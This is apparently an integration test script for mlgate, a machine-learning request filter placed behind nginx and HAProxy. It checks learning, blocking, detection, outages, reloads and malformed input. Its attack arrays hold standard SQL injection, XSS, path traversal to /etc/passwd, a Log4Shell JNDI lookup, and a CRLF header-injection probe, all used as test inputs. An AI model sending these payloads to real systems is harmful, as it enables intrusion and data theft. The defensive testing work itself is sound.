#!/usr/bin/env bash
# mlgate behind the real nginx and HAProxy, each stack started by
# scripts/gateway from the examples in packaging/, learning through the real
# daemon on the Redis and MariaDB of scripts/services.
#
#   gateway_test.sh learn|detect|redis|unreachable|reload|hostile|forget
#
# learn wipes and learns two domains, one through nginx only and one through
# HAProxy only, and is the others' fixture; forget removes what it learned.
# The others judge the HAProxy-learned domain through a Redis of their own, a
# replica of the shared one that accepts writes: it holds what was learned,
# and what mlgate writes (ids, samples) stays in it, so these cases run beside
# other tests and may stop their Redis. Exit status 77: nginx, HAProxy or the
# services are missing (the case is skipped).
set -eu
case=${1:?usage: gateway_test.sh learn|detect|redis|unreachable|reload|hostile|forget}
src=$(cd "$(dirname "$0")/../.." && pwd)
bin=${ML_BIN_DIR:-$src/build/bin}
work=$(mktemp -d /tmp/mlgw-test.XXXXXX)

# The two learned domains; ids and ports no other test uses.
nginx_domain=871 nginx_host=a.gateway.test
spoe_domain=872 spoe_host=b.gateway.test
policy=gwtest

stacks=() replicas=() daemon="" failed=1
say() { printf '%s: %s\n' "$case" "$*"; }
fail() {
  say "FAILED: $*" >&2
  exit 1
}
skip() {
  say "skipped: $*"
  failed=0
  exit 77
}
finish() {
  local s r
  if [ "$failed" = 1 ]; then
    for s in "${stacks[@]}"; do
      for log in mlgate.log nginx/access.log nginx/error.log haproxy/access.log haproxy/haproxy.err; do
        [ -s "$work/$s/$log" ] && { echo "--- $s/$log (end)"; tail -n 15 "$work/$s/$log"; }
      done
    done
    [ -n "$daemon" ] && { echo "--- daemon (end)"; tail -n 15 "$work/daemon.log"; }
  fi
  for s in "${stacks[@]}"; do GATEWAY_DIR=$work/$s "$src/scripts/gateway" stop >/dev/null || true; done
  for r in "${replicas[@]}"; do redis-cli -p "$r" shutdown nosave >/dev/null 2>&1 || true; done
  if [ -n "$daemon" ] && kill -0 "$daemon" 2>/dev/null; then kill -KILL "$daemon"; fi
  rm -rf "$work"
}
trap finish EXIT
trap 'exit 1' INT TERM HUP PIPE

command -v nginx >/dev/null || skip "nginx is not installed (scripts/install-deps)"
command -v haproxy >/dev/null || skip "haproxy is not installed (scripts/install-deps)"
[ "$(redis-cli -p 6379 ping 2>/dev/null)" = PONG ] || skip "Redis is not answering (scripts/services start)"
mysqladmin --protocol=tcp -h 127.0.0.1 -P 3306 --connect-timeout=2 ping >/dev/null 2>&1 ||
  skip "MariaDB is not answering (scripts/services start)"
eval "$("$src/scripts/services" env)"

rcli() { redis-cli -p 6379 "$@"; }
# Whether a process runs; one that died lingers as a zombie while nothing reaps it.
running() {
  local state
  state=$(awk '{ print $3 }' "/proc/$1/stat" 2>/dev/null) || return 1
  [ -n "$state" ] && [ "$state" != Z ]
}

# --- checks ---------------------------------------------------------------------
expect() { # ACTUAL EXPECTED WHAT
  [ "$1" = "$2" ] || fail "$3: got '$1', expected '$2'"
}

# wait_until SECONDS WHAT COMMAND...: polls COMMAND every 0.2 s.
wait_until() {
  local until=$(($(date +%s) + $1)) what=$2
  shift 2
  until "$@"; do
    [ "$(date +%s)" -lt "$until" ] || fail "$what did not happen within the time allowed"
    sleep 0.2
  done
}

# --- the stacks -------------------------------------------------------------------
# stack NAME BASE DOMAIN HOST MODE [REDIS_PORT]: nginx BASE, HAProxy BASE+1,
# site BASE+2, mlgate BASE+3 (HTTP) and BASE+4 (SPOE).
stack() {
  local name=$1 base=$2
  stacks+=("$name")  # stopped at the end even when it does not come up whole
  GATEWAY_DIR=$work/$name GATEWAY_NGINX_PORT=$base GATEWAY_HAPROXY_PORT=$((base + 1)) \
    GATEWAY_SITE_PORT=$((base + 2)) GATEWAY_HTTP_PORT=$((base + 3)) GATEWAY_SPOE_PORT=$((base + 4)) \
    GATEWAY_DOMAIN=$3 GATEWAY_HOST=$4 GATEWAY_DB=ml_gwtest_$3 GATEWAY_POLICY=$policy \
    GATEWAY_MODE=$5 GATEWAY_REDIS_PORT=${6:-6379} GATEWAY_BIN=$bin \
    "$src/scripts/gateway" start >/dev/null
}
gw() { # NAME ARGS...: scripts/gateway on that stack
  local name=$1
  shift
  GATEWAY_DIR=$work/$name "$src/scripts/gateway" "$@"
}
setting() { # NAME KEY: a setting of the stack (saved by scripts/gateway)
  local var=saved_$2
  # shellcheck disable=SC1090  # written by scripts/gateway
  (. "$work/$1/settings" && echo "${!var}")
}
port() { # NAME nginx|haproxy|mlgate
  case $2 in
    nginx) setting "$1" NGINX_PORT ;;
    haproxy) setting "$1" HAPROXY_PORT ;;
    mlgate) setting "$1" HTTP_PORT ;;
  esac
}

# status NAME PROXY TARGET [CURL ARGS...]: the status code a request through
# the proxy gets ("000": none), with the stack's host.
status() {
  local name=$1 proxy=$2 target=$3
  shift 3
  curl -s -g --path-as-is -o /dev/null -w '%{http_code}' --max-time 10 \
    -H "Host: $(setting "$name" HOST)" "$@" "http://127.0.0.1:$(port "$name" "$proxy")$target" || true
}
post() { # NAME PROXY TARGET BODY [CURL ARGS...]
  status "$1" "$2" "$3" -H 'Content-Type: application/x-www-form-urlencoded' --data-raw "$4" "${@:5}"
}
# late_post NAME PROXY BODY: the status of a POST to /cart/add whose body
# comes a moment after its head, in a packet of its own, as a slow client's.
late_post() {
  local port reply="" code=""
  port=$(port "$1" "$2")
  exec 3<>"/dev/tcp/127.0.0.1/$port"
  printf 'POST /cart/add HTTP/1.1\r\nHost: %s\r\nContent-Type: application/x-www-form-urlencoded\r\n' \
    "$(setting "$1" HOST)" >&3
  printf 'Content-Length: %d\r\nConnection: close\r\n\r\n' "${#3}" >&3
  sleep 0.3
  printf '%s' "$3" >&3
  read -r -t 10 reply <&3 || true
  exec 3<&-
  read -r _ code _ <<<"$reply"
  echo "${code:-000}"
}
# ask NAME TARGET [CURL ARGS...]: mlgate's own answer to the question nginx
# asks, as "STATUS VERDICT ACTION MODE".
ask() {
  local name=$1 target=$2
  shift 2
  curl -s -D - -o /dev/null --max-time 10 -H "X-Original-URI: $target" -H "X-Original-Method: GET" \
    -H "X-Original-Host: $(setting "$name" HOST)" "$@" "http://127.0.0.1:$(port "$name" mlgate)/auth" |
    tr -d '\r' | awk 'NR == 1 { s = $2 } tolower($1) == "x-ml-verdict:" { v = $2 }
                      tolower($1) == "x-ml-action:" { a = $2 } tolower($1) == "x-ml-mode:" { m = $2 }
                      END { print (s ? s : "000"), v, a, m }'
}
metric() { # NAME SERIES: its value in mlgate's /metrics, 0 when absent
  curl -s --max-time 5 "http://127.0.0.1:$(port "$1" mlgate)/metrics" |
    awk -v s="$2" 'index($0, s " ") == 1 { v = $NF } END { print v + 0 }'
}
# Predicates to wait for.
answers() { [ "$(status "$1" "$2" "$3")" = "$4" ]; }              # NAME PROXY TARGET STATUS
judges() { [ "$(ask "$1" "$2" | cut -d' ' -f2)" = "$3" ]; }       # NAME TARGET VERDICT
listeners_above() { [ "$(rcli PUBSUB NUMSUB "$1" | tail -1)" -gt "$2" ]; }  # CHANNEL N
list_empty() { [ "$(rcli LLEN "$1")" = 0 ]; }
gone() { ! redis-cli -p "$1" ping >/dev/null 2>&1; }             # PORT
mode_is() { # NAME MODE: mlgate answers in that mode
  [ "$(ask "$1" "/search?q=chair" | awk '{ print $4 }')" = "$2" ]
}
reload() { # NAME MODE: scripts/gateway reload, then waits for mlgate to take it
  GATEWAY_MODE=$2 gw "$1" reload >/dev/null
  wait_until 10 "the reload of $1 to $2 mode" mode_is "$1" "$2"
}

# --- traffic ----------------------------------------------------------------------
# traffic FILE HOST N SEED [forms]: N requests GET /search?q=WORDS&page=N of a
# small shop (one or two words of a list, pages 1 to 20) and, with forms, as
# many POST /cart/add with product_id (4 digits) and quantity (1 to 5).
traffic() {
  awk -v host="$2" -v n="$3" -v seed="$4" -v forms="${5:-}" 'BEGIN {
    srand(seed)
    nw = split("chair table lamp desk sofa wool cotton linen oak pine red blue green black white " \
               "small large soft warm cozy modern classic round square shelf rug mirror clock vase", w, " ")
    for (i = 0; i < n; i++) {
      q = w[int(rand() * nw) + 1]
      if (rand() < 0.4) q = q "+" w[int(rand() * nw) + 1]
      printf "GET /search?q=%s&page=%d HTTP/1.1\r\nHost: %s\r\n\r\n", q, 1 + int(rand() * 20), host
      if (!forms) continue
      b = sprintf("product_id=%d&quantity=%d", 1000 + int(rand() * 9000), 1 + int(rand() * 5))
      printf "POST /cart/add HTTP/1.1\r\nHost: %s\r\nContent-Type: application/x-www-form-urlencoded\r\n" \
             "Content-Length: %d\r\n\r\n%s\r\n", host, length(b), b
    }
  }' >"$1"
}
# Values no learned pattern explains, each in its argument: foreign signs,
# words in capitals with digits, a long run.
query_attacks=(
  "/search?q=%27+OR+%271%27%3D%271&page=1"
  "/search?q=%3Cscript%3Ealert%281%29%3C%2Fscript%3E&page=2"
  "/search?q=..%2F..%2F..%2Fetc%2Fpasswd&page=3"
  "/search?q=chair&page=1%3BDROP+TABLE+users"
  "/search?q=lamp&page=-1+UNION+SELECT+1%2C2"
)
body_attacks=(
  "product_id=1%27+OR+%271%27%3D%271&quantity=1"
  "product_id=2044&quantity=%3Csvg+onload%3Dalert%281%29%3E"
  "product_id=%24%7Bjndi%3Aldap%3A%2F%2Fx.test%2Fa%7D&quantity=2"
)
normal_queries=("/search?q=chair&page=2" "/search?q=warm+wool&page=11" "/search?q=oak+table&page=7")
normal_bodies=("product_id=4711&quantity=2" "product_id=1234&quantity=5")

# expect_all NAME PROXY STATUS WHAT TARGETS...
expect_all() {
  local name=$1 proxy=$2 want=$3 what=$4 t
  shift 4
  for t in "$@"; do expect "$(status "$name" "$proxy" "$t")" "$want" "$what through $proxy: $t"; done
}
expect_all_posted() { # NAME PROXY STATUS WHAT BODIES... (to /cart/add)
  local name=$1 proxy=$2 want=$3 what=$4 b
  shift 4
  for b in "$@"; do expect "$(post "$name" "$proxy" /cart/add "$b")" "$want" "$what through $proxy: $b"; done
}

# --- the learned domains ----------------------------------------------------------------
wipe_domain() { # DOMAIN: its Redis records and learning database, afresh
  local d=$1 pattern key
  for pattern in "arg:$d:*" "arg:boxplot:$d:*" "arg:manuals:$d:*"; do
    rcli --scan --pattern "$pattern" | while read -r key; do rcli DEL "$key" >/dev/null; done
  done
  rcli DEL "domain_info:$d" "mlfeed:urls:$d" "mlfeed:args:$d" "mlfeed:next:$d" "mlfeed:gained:$d" >/dev/null
  rcli HDEL domains "$d" >/dev/null
  # The daemon's user owns its domain databases (and sees no other).
  local db=(mariadb --protocol=tcp -h "$MLDB_HOST" -P "$MLDB_PORT" -u "$MLDB_USER" -p"$MLDB_PASSWORD")
  if [ -n "$("${db[@]}" -N -e "SHOW DATABASES LIKE 'ml_gwtest_$d'")" ]; then
    "${db[@]}" -e "DROP DATABASE ml_gwtest_$d"
  fi
}

learned() { # NAME DOMAIN COUNT: mlgate counts COUNT learned arguments of the domain
  [ "$(metric "$1" "mlgate_arguments{domain=\"$2\",state=\"learned\"}")" = "$3" ]
}

# A Redis of the case's own on PORT, a replica of the shared one that takes
# writes; returns once it holds the shared data.
replica() {
  local port=$1
  mkdir -p "$work/redis-$port"
  redis-server --bind 127.0.0.1 --port "$port" --daemonize yes --dir "$work/redis-$port" \
    --save "" --appendonly no --replicaof 127.0.0.1 6379 --replica-read-only no \
    --pidfile "$work/redis-$port/pid" --logfile "$work/redis-$port/log" >/dev/null
  replicas+=("$port")
  wait_until 30 "the replica on $port to hold the shared data" synced "$port"
}
synced() { redis-cli -p "$1" info replication 2>/dev/null | tr -d '\r' | grep -qx 'master_link_status:up'; }

# The cases below learn nothing: they need what learn left.
need_learned() {
  local n
  n=$(rcli HLEN "mlfeed:args:$spoe_domain")
  [ "$n" = 4 ] || fail "domain $spoe_domain has $n arguments, not 4: run the learn case first"
}

# --- the cases ------------------------------------------------------------------
case_learn() {
  wipe_domain $nginx_domain
  wipe_domain $spoe_domain
  "$src/scripts/mldb-provision" ml_gwtest_$nginx_domain >/dev/null
  "$src/scripts/mldb-provision" ml_gwtest_$spoe_domain >/dev/null
  # Count-only: an argument is ready at 1500 samples.
  rcli HSET "policy:root:$policy" sample_collecting_mode 1 hmm_engine 1 model_min_learn_time 1 \
    sl_automatic_definitely 1 >/dev/null

  # The daemon first: the stacks' verdict contexts listen on channel1 too.
  local before
  before=$(rcli PUBSUB NUMSUB channel1 | tail -1)
  mkdir -p "$work/root"
  ML_DAEMON_ROOT=$work/root "$bin/ml_daemon" >"$work/daemon.log" 2>&1 &
  daemon=$!
  wait_until 30 "the daemon to listen on channel1" \
    listeners_above channel1 "$before"

  # Learn mode never blocks: every request of the learning traffic passes.
  stack a 18410 $nginx_domain $nginx_host learn
  stack b 18420 $spoe_domain $spoe_host learn
  traffic "$work/a.http" $nginx_host 1700 11
  traffic "$work/b.http" $spoe_host 1700 12 forms
  expect "$(gw a send nginx "$work/a.http" | awk '$2 != 200' | head -3)" "" "learning traffic through nginx"
  expect "$(gw b send haproxy "$work/b.http" | awk '$2 != 200' | head -3)" "" "learning traffic through HAProxy"
  say "sent 1700 requests through nginx and 3400 through HAProxy"
  wait_until 90 "learning q and page through nginx" learned a $nginx_domain 2
  wait_until 90 "learning q, page, product_id and quantity through HAProxy" learned b $spoe_domain 4
  [ "$(metric a mlgate_samples_pushed_total)" -ge 3000 ] || fail "nginx's mlgate pushed too few samples"
  [ "$(metric b mlgate_samples_pushed_total)" -ge 6000 ] || fail "HAProxy's mlgate pushed too few samples"
  say "every argument learned"

  # Block mode: normal values pass, attacks are denied by the door that
  # learned them and by the other one; a form body only reaches mlgate
  # through HAProxy.
  reload a block
  reload b block
  local p
  for p in nginx haproxy; do
    expect_all a $p 200 "a normal request" "${normal_queries[@]}"
    expect_all a $p 403 "an attack" "${query_attacks[@]}"
    expect_all b $p 200 "a normal request" "${normal_queries[@]}"
    expect_all b $p 403 "an attack" "${query_attacks[@]}"
    expect_all_posted b $p 200 "a normal form" "${normal_bodies[@]}"
  done
  expect_all_posted b haproxy 403 "an attack in a form" "${body_attacks[@]}"
  expect_all_posted b nginx 200 "an attack in a form nginx never shows mlgate" "${body_attacks[@]}"
  expect "$(ask b "/search?q=%27+OR+1%3D1--" | cut -d' ' -f1-3)" "403 definite block" "mlgate's answer"
  expect "$(ask b "/search?q=warm+wool" | cut -d' ' -f1-3)" "204 normal pass" "mlgate's answer"

  # Nothing learned is left in the shared list, and the daemon stops cleanly.
  wait_until 30 "the daemon to take every sample" list_empty arg:mlnsample
  kill -INT "$daemon"
  local rc=0
  wait "$daemon" || rc=$?
  daemon=""
  expect "$rc" 0 "the daemon's exit status"
}

case_detect() {
  need_learned
  replica 18439
  stack d 18430 $spoe_domain $spoe_host detect 18439
  local p
  for p in nginx haproxy; do
    expect_all d $p 200 "detect mode: a normal request" "${normal_queries[@]}"
    expect_all d $p 200 "detect mode: an attack" "${query_attacks[@]}"
    expect_all_posted d $p 200 "detect mode: an attack in a form" "${body_attacks[@]}"
  done
  # Each proxy's access log carries mlgate's report of every request.
  local nlog=$work/d/nginx/access.log hlog=$work/d/haproxy/access.log n
  n=$(grep -c 'ml_verdict=definite ml_action=log ml_mode=detect ml_argument="q"' "$nlog" || true)
  expect "$n" 3 "nginx log lines of attacks on q"
  n=$(grep -c 'ml_verdict=definite ml_action=log ml_mode=detect ml_argument="page"' "$nlog" || true)
  expect "$n" 2 "nginx log lines of attacks on page"
  n=$(grep -c 'ml_verdict=normal ml_action=pass ml_mode=detect' "$nlog" || true)
  expect "$n" 3 "nginx log lines of normal requests"
  n=$(grep -c 'ml_verdict=definite ml_action=log ml_mode=detect ml_argument="q"' "$hlog" || true)
  expect "$n" 3 "HAProxy log lines of attacks on q"
  n=$(grep -c 'ml_verdict=definite ml_action=log ml_mode=detect ml_argument="\(product_id\|quantity\)"' "$hlog" || true)
  expect "$n" 3 "HAProxy log lines of attacks in a form"
  grep -q 'ml_action=block' "$nlog" "$hlog" && fail "detect mode logged a block"
  grep 'ml_score=-[0-9]' "$nlog" >/dev/null || fail "nginx's log has no score"
  expect "$(metric d 'mlgate_requests_total{mode="detect",verdict="definite",action="log"}')" 13 \
    "mlgate's count of reported attacks"
  expect "$(metric d mlgate_samples_pushed_total)" 0 "samples pushed for learned arguments"
}

case_redis() {
  need_learned
  replica 18449
  stack r 18440 $spoe_domain $spoe_host block 18449
  expect_all r nginx 403 "before the outage: an attack" "${query_attacks[0]}"
  expect_all r haproxy 403 "before the outage: an attack" "${query_attacks[0]}"

  # Normal traffic through both proxies all along.
  local p i
  (
    while :; do
      for p in nginx haproxy; do
        echo "$p $(status r $p '/search?q=chair+lamp&page=4')"
        echo "$p $(post r $p /cart/add 'product_id=4711&quantity=2')"
      done
    done
  ) >"$work/background" 2>&1 &
  local traffic=$!

  local errors
  errors=$(metric r mlgate_service_errors_total)
  kill -KILL "$(cat "$work/redis-18449/pid")"
  wait_until 10 "the Redis to go away" gone 18449
  # Pages never judged before need Redis: they pass, unjudged.
  for i in 1 2 3; do
    for p in nginx haproxy; do
      expect "$(status r $p "/new-$p-$i?x=1")" 200 "a page of a URL mlgate never saw, through $p"
    done
    sleep 0.5
  done
  expect "$(ask r "/never-seen?x=1" | cut -d' ' -f1-3)" "204 error pass" "mlgate's answer while Redis is down"
  [ "$(metric r mlgate_service_errors_total)" -gt "$errors" ] || fail "no service error counted"
  grep -q 'ml_verdict=error ml_action=pass' "$work/r/nginx/access.log" || fail "nginx logged no error verdict"
  grep -q 'ml_verdict=error ml_action=pass' "$work/r/haproxy/access.log" || fail "HAProxy logged no error verdict"

  # Redis back: verdicts again, through both proxies.
  redis-server --bind 127.0.0.1 --port 18449 --daemonize yes --dir "$work/redis-18449" \
    --save "" --appendonly no --replicaof 127.0.0.1 6379 --replica-read-only no \
    --pidfile "$work/redis-18449/pid" --logfile "$work/redis-18449/log" >/dev/null
  wait_until 30 "the replica to come back" synced 18449
  wait_until 15 "an attack to be denied through nginx again" \
    answers r nginx "${query_attacks[1]}" 403
  wait_until 15 "an attack to be denied through HAProxy again" \
    answers r haproxy "${query_attacks[1]}" 403
  wait_until 15 "mlgate to judge a new URL again" \
    judges r "/fresh?x=1" not_learned

  kill "$traffic"
  wait "$traffic" || true
  local n
  n=$(wc -l <"$work/background")
  [ "$n" -ge 20 ] || fail "only $n background requests"
  expect "$(awk '$2 != 200' "$work/background" | head -3)" "" "normal traffic during the outage"
  say "$n normal requests during the outage, all passed"
}

case_unreachable() {
  need_learned
  replica 18479
  stack u 18470 $spoe_domain $spoe_host block 18479
  local p pid attack=${query_attacks[0]} n
  pid=$(cat "$work/u/mlgate.pid")
  for p in nginx haproxy; do expect_all u $p 403 "with mlgate up: an attack" "$attack"; done

  # mlgate hung: both proxies stop waiting for it and let requests through
  # unjudged, each within a second or so.
  kill -STOP "$pid"
  for p in nginx haproxy; do
    expect "$(status u $p "${normal_queries[0]}" --max-time 3)" 200 "with mlgate hung: a normal request through $p"
    expect "$(status u $p "$attack" --max-time 3)" 200 "with mlgate hung: an attack through $p"
  done
  expect "$(post u haproxy /cart/add "${body_attacks[0]}" --max-time 3)" 200 \
    "with mlgate hung: an attack in a form through HAProxy"
  kill -CONT "$pid"
  n=$(grep -c 'ml_verdict= ml_action= .*ml_error=unreachable' "$work/u/nginx/access.log" || true)
  expect "$n" 2 "nginx log lines of requests mlgate did not answer"
  n=$(grep -c 'ml_verdict=- ml_action=- .*ml_error=1$' "$work/u/haproxy/access.log" || true)
  expect "$n" 3 "HAProxy log lines of requests timed out on mlgate"
  for p in nginx haproxy; do
    wait_until 10 "mlgate to deny attacks through $p again" answers u $p "$attack" 403
  done

  # mlgate gone: the same, at once.
  kill -KILL "$pid"
  for p in nginx haproxy; do
    expect "$(status u $p "$attack" --max-time 3)" 200 "with mlgate gone: an attack through $p"
  done
  GATEWAY_DIR=$work/u "$src/scripts/gateway" start >/dev/null
  for p in nginx haproxy; do
    wait_until 10 "a new mlgate to deny attacks through $p" answers u $p "$attack" 403
  done
}

case_reload() {
  need_learned
  replica 18459
  stack m 18450 $spoe_domain $spoe_host detect 18459
  local p attack=${query_attacks[0]}
  for p in nginx haproxy; do expect_all m $p 200 "detect mode: an attack" "$attack"; done
  reload m block
  for p in nginx haproxy; do
    expect_all m $p 403 "block mode after SIGHUP: an attack" "$attack"
    expect_all m $p 200 "block mode after SIGHUP: a normal request" "${normal_queries[0]}"
  done
  expect_all_posted m haproxy 403 "block mode after SIGHUP: an attack in a form" "${body_attacks[0]}"

  # A file mlgate cannot read is refused; the configuration in use stays.
  local pid
  pid=$(cat "$work/m/mlgate.pid")
  printf '{"domains": [{"host": "%s", "domain_id": %s, "mode": "detect",}' $spoe_host $spoe_domain \
    >"$work/m/mlgate.json"
  kill -HUP "$pid"
  wait_until 10 "mlgate to refuse the broken file" grep -q 'reload refused' "$work/m/mlgate.log"
  running "$pid" || fail "mlgate died of a broken configuration"
  for p in nginx haproxy; do expect_all m $p 403 "after a refused reload: an attack" "$attack"; done

  # Learn mode lets everything through.
  reload m learn
  for p in nginx haproxy; do expect_all m $p 200 "learn mode: an attack" "$attack"; done
  expect "$(ask m "$attack" | cut -d' ' -f1,3,4)" "204 pass learn" "mlgate's answer in learn mode"
}

case_hostile() {
  need_learned
  replica 18469
  stack h 18460 $spoe_domain $spoe_host block 18469
  local pid long many fields p t s
  pid=$(cat "$work/h/mlgate.pid")
  long=$(head -c 60000 /dev/zero | tr '\0' a)
  many=$(seq -f 'a%g=1' 1 5000 | paste -sd'&')
  fields=$(printf 'q=a&%.0s' $(seq 1900))

  # Straight to the HTTP door, as nginx would ask: every one is answered.
  expect "$(ask h "/search?q=$long" | cut -d' ' -f1-2)" "403 definite" "a 60 KB value"
  expect "$(ask h "/search?$many" | cut -d' ' -f1-2)" "403 malformed" "5,000 arguments"
  for t in "/search?q=%zz%4&page=%" "/search?q=%%%%&page=%E0%A4%A" "/search?q=ab%00cd&page=1" \
           "/search?q=%FF%FE%00&page=%00" "/%00?q=chair"; do
    s=$(ask h "$t")
    case $s in 204\ * | 403\ *) ;; *) fail "no verdict for $t: $s" ;; esac
  done
  # A name with a line break must not end mlgate's headers early.
  curl -s -D "$work/head" -o /dev/null -H 'X-Original-URI: /search?q=chair&x%0D%0AX-Injected:%201=1' \
    -H "X-Original-Host: $spoe_host" "http://127.0.0.1:$(port h mlgate)/auth"
  grep -qi '^x-injected' "$work/head" && fail "an argument name wrote a header of its own"
  grep -qi '^x-ml-verdict: unknown_argument' "$work/head" || fail "no verdict for a name with a line break"
  expect "$(curl -s -o /dev/null -w '%{http_code}' "http://127.0.0.1:$(port h mlgate)/auth")" 400 \
    "a question without X-Original-URI"

  # Through both proxies: an answer for each (the proxies refuse what is too
  # long for them on their own), the bound on values judged holds, and NUL
  # bytes and broken escapes are judged.
  for p in nginx haproxy; do
    s=$(status h $p "/search?q=$long")
    case $s in 4??) ;; *) fail "60 KB query through $p: $s" ;; esac
    s=$(status h $p "/search?$many")
    case $s in 4??) ;; *) fail "5,000 arguments through $p: $s" ;; esac
    expect "$(status h $p "/search?$(printf 'q=a&%.0s' $(seq 1200))")" 403 "1,200 values through $p"
    expect "$(status h $p "/search?q=chair%00lamp&page=1")" 403 "a NUL byte through $p"
    expect "$(status h $p "/search?q=%zz%4&page=%")" 403 "broken escapes through $p"
    expect "$(status h $p "/search?q=%E0%A4%A")" 403 "a broken UTF-8 sequence through $p"
  done
  expect "$(post h haproxy /search "$fields")" 403 "a form of 1,900 values through HAProxy"
  expect "$(late_post h haproxy "${body_attacks[0]}")" 403 "an attack in a form that comes late through HAProxy"
  expect "$(late_post h haproxy "${normal_bodies[0]}")" 200 "a form that comes late through HAProxy"
  expect "$(post h haproxy /cart/add "product_id=12%0034&quantity=1")" 403 "a NUL byte in a form through HAProxy"
  s=$(post h haproxy /cart/add "$many")
  case $s in 200 | 403) ;; *) fail "a form of 5,000 arguments through HAProxy: $s" ;; esac

  running "$pid" || fail "mlgate is gone"
  [ "$(metric h 'mlgate_requests_total{mode="block",verdict="malformed",action="block"}')" -ge 4 ] ||
    fail "mlgate counted too few malformed requests"
  expect_all h nginx 200 "after it all: a normal request" "${normal_queries[0]}"
  expect_all h haproxy 200 "after it all: a normal request" "${normal_queries[0]}"
}

case_forget() {
  wipe_domain $nginx_domain
  wipe_domain $spoe_domain
  rcli DEL "policy:root:$policy" >/dev/null
}

case $case in
  learn | detect | redis | unreachable | reload | hostile | forget) "case_$case" ;;
  *) fail "no case $case" ;;
esac
failed=0
say passed
